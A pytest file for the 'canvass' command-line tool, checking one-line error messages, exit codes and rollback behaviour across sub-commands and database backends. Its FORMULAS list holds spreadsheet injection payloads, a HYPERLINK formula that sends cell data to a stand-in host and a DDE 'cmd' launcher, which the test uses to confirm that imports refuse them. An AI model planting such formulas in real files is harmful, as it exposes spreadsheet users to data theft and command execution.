"""Every sub-command fails in one line on stderr with its documented exit code (issue 21): 1
refused, 2 usage or unreadable input, 3 the database cannot be used; never a traceback, and a
reading command never creates a database where a path was mistyped.

Each sub-command (the parser is walked, so a new one without cases fails here) is run in-process
with a missing SQLite path, an unreachable PostgreSQL server, a file that is not a database, bad
arguments and bad files; then against a real database of each backend with the inputs it must
refuse; and once as a real process with bytes the system's encoding cannot read."""
from __future__ import annotations

import argparse
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import create_engine, inspect
from sqlalchemy.exc import OperationalError

import main
from controllers.commands import import_command
from models.db.database import Database
from models.opening import open_database
from tests.support.databases import fresh_postgres_url
from tests.support.factories import make_place
from tests.support.postgres_cluster import PostgresCluster
from tests.support.registers import HEADER, good_lines, register_csv
from tests.support.signing_in import sign_in_as

ROOT = Path(__file__).resolve().parents[3]
UNREACHABLE = "postgresql://canvass:secret@127.0.0.1:1/canvass"
# Every sub-command that opens a database, as a reading or working command would be run.
WITH_DATABASE = [
    ["db", "status"], ["user", "list"], ["user", "reset-password", "bob", "--password", "x" * 9],
    ["user", "role", "bob", "viewer"], ["user", "unlock", "bob"], ["user", "deactivate", "bob"],
    ["user", "activate", "bob"], ["user", "delays"], ["user", "clear-delay", "bob"],
    ["duplicates"], ["merge", "1", "2"],
    ["import", "{register}"], ["intake", "{register}"], ["setup", "export", "--out", "{out}.xlsx"],
    ["export", "cases", "--out", "{out}.xlsx"], ["knock-list", "C1", "--out", "{out}.pdf"],
    ["sheet", "1", "--out", "{out}.pdf"], ["report", "daily", "--out", "{out}.pdf"],
    ["audit", "verify"], ["audit", "restore-guards"], ["screenshot", "main", "--out", "{out}.png"],
    ["campaign", "list"], ["campaign", "show"], ["setup", "boundaries", "{boundaries}"]]
# Commands that may start a database: never on a server that does not answer.
STARTING = [["db", "upgrade"], ["user", "add", "bob", "--role", "clerk", "--password", "x" * 9],
            ["demo"], ["setup", "import", "{workbook}"]]
BAD_ARGUMENTS = [
    ["db"], ["db", "drop"], ["user"], ["user", "add", "bob"], ["user", "role", "bob", "king"],
    ["user", "clear-delay"],
    ["demo", "--size", "huge"], ["demo", "--seed", "x"], ["demo", "--end", "2999-01-01 00:00"],
    ["import"], ["import", "{missing}.csv"], ["import", "{register}", "--header-row", "0"],
    ["intake"], ["intake", "{missing}.csv"], ["intake", "{register}", "--source-case", "0"],
    ["intake", "{register}", "--source-case", "99999999999999999999"],
    ["setup"], ["setup", "template"], ["setup", "template", "--out", "{out}.pdf"],
    ["setup", "template", "--out", "{missing}/district.xlsx"], ["setup", "import", "{missing}.xlsx"],
    ["setup", "export", "--out", "{out}.csv"], ["export", "people", "--out", "{out}.xlsx"],
    ["export", "cases", "--out", "{out}.txt"], ["knock-list", "C1", "--out", "{out}.png"],
    ["knock-list", "C1", "--out", "{missing}/list.pdf"], ["sheet", "--out", "{out}.pdf"],
    ["sheet", "1", "--date", "2020-02-20", "--out", "{out}.pdf"],
    ["sheet", "--date", "2020-02-30", "--out", "{out}.pdf"], ["report"],
    ["report", "daily", "--out", "{out}.doc"], ["report", "daily", "--date", "20-2", "--out", "{out}.pdf"],
    ["duplicates", "--community"], ["merge", "1"], ["merge", "1", "99999999999999999999"],
    ["audit"], ["audit", "erase"], ["screenshot", "main"], ["screenshot", "nowhere", "--out", "{out}.png"],
    ["screenshot", "main", "--size", "10x10", "--out", "{out}.png"], ["campaign"],
    ["setup", "boundaries"], ["setup", "boundaries", "{missing}.geojson"],
    ["campaign", "show", "x"], ["nonsense"]]


def _filled(argv: list[str], folder: Path, **files: Path) -> list[str]:
    """ARGV with {register}, {workbook}, {boundaries}, {out}, {missing} and `files` made into
    paths in `folder` (a good register, a damaged workbook and a boundary file of no shape
    written there)."""
    register = folder / "register.csv"
    if not register.exists():
        register_csv(register, good_lines(2), "utf-8")
        (folder / "district.xlsx").write_bytes(b"PK\x03\x04 not a workbook")
        (folder / "boundaries.geojson").write_text('{"type": "FeatureCollection", "features": []}',
                                                   encoding="utf-8")
    return [part.format(register=register, workbook=folder / "district.xlsx",
                        boundaries=folder / "boundaries.geojson",
                        out=folder / "out", missing=folder / "missing", **files) for part in argv]


def _fails_in_one_line(argv: list[str], code: int, capsys: pytest.CaptureFixture[str]) -> str:
    """Run `canvass --lang en ARGV`; assert the exit code and one line on stderr, no traceback."""
    try:
        got = main.run(["--lang", "en", *argv])
    except SystemExit as exit_:   # argparse's own exit, as the process would end
        got = int(exit_.code or 0)
    captured = capsys.readouterr()
    lines = captured.err.splitlines()
    assert (got, len(lines)) == (code, 1), (argv, got, captured.err)
    assert "Traceback" not in captured.err + captured.out
    assert lines[0].startswith("canvass: ") and len(lines[0]) > len("canvass: ") + 10
    return lines[0]


def _leaf_commands(parser: argparse.ArgumentParser, path: tuple[str, ...] = ()) -> set[tuple[str, ...]]:
    found: set[tuple[str, ...]] = set()
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, child in action.choices.items():
                found |= _leaf_commands(child, (*path, name)) or {(*path, name)}
    return found


def test_every_sub_command_has_its_bad_inputs_here() -> None:
    every = WITH_DATABASE + STARTING + BAD_ARGUMENTS
    covered = {tuple(argv[:2]) for argv in every} | {tuple(argv[:1]) for argv in every}
    leaves = _leaf_commands(main.build_parser())
    assert leaves - covered == set()


@pytest.mark.parametrize("argv", WITH_DATABASE, ids=" ".join)
def test_a_mistyped_sqlite_path_is_exit_3_and_creates_nothing(
        argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    mistyped = tmp_path / "canvas.sqlite3"
    line = _fails_in_one_line(["--db", str(mistyped), *_filled(argv, tmp_path)], 3, capsys)
    assert str(mistyped) in line
    assert not list(tmp_path.glob("canvas.sqlite3*"))


@pytest.mark.parametrize("argv", WITH_DATABASE + STARTING, ids=" ".join)
def test_a_server_that_does_not_answer_is_exit_3(
        argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    line = _fails_in_one_line(["--db", UNREACHABLE, *_filled(argv, tmp_path)], 3, capsys)
    assert "secret" not in line


@pytest.mark.parametrize("database", ["{register}", "{out}", "mysql://nobody@localhost/x",
                                      "postgresql://nobody:secret@localhost:port/x"])
@pytest.mark.parametrize("argv", [["db", "status"], ["user", "list"], ["import", "{register}"],
                                  ["db", "upgrade"], ["demo"]], ids=" ".join)
def test_a_file_or_url_that_is_not_a_canvass_database_is_exit_3(
        argv: list[str], database: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "out").mkdir()
    filled = _filled(["--db", database, *argv], tmp_path)
    before = (tmp_path / "register.csv").read_bytes() if database == "{register}" else None
    line = _fails_in_one_line(filled, 3, capsys)
    assert "secret" not in line            # a mistyped address never echoes its password
    if before is not None:
        assert (tmp_path / "register.csv").read_bytes() == before   # left untouched


@pytest.mark.parametrize("argv", BAD_ARGUMENTS, ids=" ".join)
def test_bad_arguments_and_missing_files_are_exit_2(
        argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _fails_in_one_line(["--db", str(tmp_path / "none.sqlite3"), *_filled(argv, tmp_path)], 2,
                       capsys)
    assert not (tmp_path / "none.sqlite3").exists()


def test_a_reading_command_leaves_an_empty_server_database_empty(
        postgres_cluster: PostgresCluster, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    url = fresh_postgres_url(postgres_cluster, None)
    for argv in (["export", "cases", "--out", str(tmp_path / "cases.xlsx")], ["user", "list"],
                 ["db", "status"]):
        assert "no Canvass database" in _fails_in_one_line(["--db", url, *argv], 3, capsys)
    engine = create_engine(url)
    try:
        assert inspect(engine).get_table_names() == []
    finally:
        engine.dispose()


FORMULAS = ['=HYPERLINK("http://x/?"&C2,"点击")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]
# Against a district of one community (C1, 永清社区) holding user bob, a commander signed in:
# what each refuses.
REFUSED: list[tuple[list[str], int]] = [
    (["user", "add", "bob", "--role", "clerk", "--password", "x" * 9], 1),
    (["user", "add", "bob smith", "--role", "clerk", "--password", "x" * 9], 1),
    (["user", "add", "carol", "--role", "clerk", "--password", "short"], 1),
    (["user", "role", "nobody", "viewer"], 1), (["demo"], 1),
    (["import", "{header_only}"], 1), (["import", "{formulas}"], 1), (["intake", "{header_only}"], 1),
    (["import", "{mixed}"], 2), (["import", "{huge}"], 2), (["intake", "{mixed}"], 2),
    (["import", "{register}", "--header-row", "40"], 2), (["setup", "import", "{register}"], 2),
    (["duplicates", "--community", "nowhere"], 1), (["merge", "1", "2"], 1),
    (["knock-list", "nowhere", "--out", "{out}.pdf"], 1),
    (["sheet", "99999999999999999999999", "--out", "{out}.pdf"], 1),
    (["sheet", "--date", "2020-02-20", "--out", "{out}.pdf"], 1),
    (["report", "daily", "--out", "{out}.pdf"], 1),
    (["knock-list", "\udcff", "--out", "{out}.pdf"], 2),
    (["user", "add", "\udcffb", "--role", "clerk", "--password", "x" * 9], 2)]


def _bad_files(folder: Path) -> dict[str, Path]:
    files = {name: folder / f"{name}.csv" for name in ("header_only", "formulas", "mixed", "huge")}
    files["header_only"].write_text(HEADER + "\r\n", encoding="utf-8")
    register_csv(files["formulas"], [line.replace(line.split(",")[0], name, 1)
                                     for line, name in zip(good_lines(3), FORMULAS, strict=True)])
    files["mixed"].write_bytes(files["formulas"].read_bytes().replace(b"\r\n=", b"\r\n\xe5\xbc\xa0", 1)
                               + "王芳,1\r\n".encode())
    files["huge"].write_bytes(files["mixed"].read_bytes()[:200] + b"x" * (2 << 20) + b"\r\n")
    return files


def test_each_refusal_is_one_line_with_its_code_and_nothing_is_written(
        database: Database, database_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    with database.sessions() as session:
        make_place(session)
        session.commit()
    assert main.run(["--db", database_url, "user", "add", "bob", "--role", "commander",
                     "--password", "x" * 9]) == 0
    sign_in_as(monkeypatch, "bob", "x" * 9)
    files = _bad_files(tmp_path)
    before = _counts(database)
    for argv, code in REFUSED:
        _fails_in_one_line(["--db", database_url, *_filled(argv, tmp_path, **files)], code,
                           capsys)
    assert _counts(database) == before


def _counts(database: Database) -> tuple[int, ...]:
    with database.engine.connect() as connection:
        return tuple(connection.exec_driver_sql(f"SELECT count(*) FROM {table}").scalar_one()
                     for table in ("person", "household", "person_case", "app_user"))


def test_a_database_lost_mid_import_is_exit_3_without_the_statement(
        database: Database, database_url: str, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """The issue's server crash during an import ended in a traceback."""
    def crash(*_args: object, **_kwargs: object) -> None:
        raise OperationalError("INSERT INTO person (name) VALUES (%(name)s)", {"name": "张伟"},
                               Exception("server closed the connection unexpectedly"))
    monkeypatch.setattr(import_command, "import_file", crash)
    path = register_csv(tmp_path / "register.csv", good_lines(2))
    line = _fails_in_one_line(["--db", database_url, "import", str(path)], 3, capsys)
    assert "server closed the connection" in line and "rolled back" in line
    assert "INSERT" not in line and "张伟" not in line


def test_a_real_process_given_unreadable_bytes_says_so_in_one_line(tmp_path: Path) -> None:
    """`knock-list $'\\xff'` ended in a traceback; so did `user add` with no password and no
    terminal. Neither creates the database it was pointed at."""
    missing = tmp_path / "canvass.sqlite3"
    environment = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
    for argv in ([b"knock-list", b"\xff", b"--out", str(tmp_path / "list.pdf").encode()],
                 [b"user", b"add", b"carol", b"--role", b"clerk"]):
        done = subprocess.run([sys.executable, "main.py", "--lang", "en", "--db", str(missing),
                               *argv], cwd=ROOT, env=environment, stdin=subprocess.DEVNULL,
                              capture_output=True, timeout=120, check=False)
        err = done.stderr.decode("utf-8", "replace")
        assert (done.returncode, len(err.splitlines())) == (2, 1), err
        assert b"Traceback" not in done.stderr and err.startswith("canvass: ")
        assert not missing.exists()


def test_a_server_killing_the_import_midway_is_exit_3_and_nothing_is_written(
        postgres_cluster: PostgresCluster, postgres_template: str, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A real connection loss: the server ends the import's session after its first chunk."""
    url = fresh_postgres_url(postgres_cluster, postgres_template)
    database = open_database(url)
    try:
        with database.sessions() as session:
            make_place(session)
            session.commit()
        before = _counts(database)
    finally:
        database.dispose()
    real = import_command.import_file

    def killed(*args: object, **kwargs: object) -> object:
        def progress(_share: float) -> None:
            admin = create_engine(url)
            with admin.connect() as connection:
                connection.exec_driver_sql(
                    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                    "WHERE datname = current_database() AND pid <> pg_backend_pid()")
            admin.dispose()
        return real(*args, **{**kwargs, "progress": progress})  # type: ignore[arg-type]
    monkeypatch.setattr(import_command, "import_file", killed)
    path = register_csv(tmp_path / "register.csv", good_lines(12_000))
    line = _fails_in_one_line(["--db", url, "import", str(path)], 3, capsys)
    assert "rolled back" in line
    database = open_database(url)
    try:
        assert _counts(database) == before
    finally:
        database.dispose()
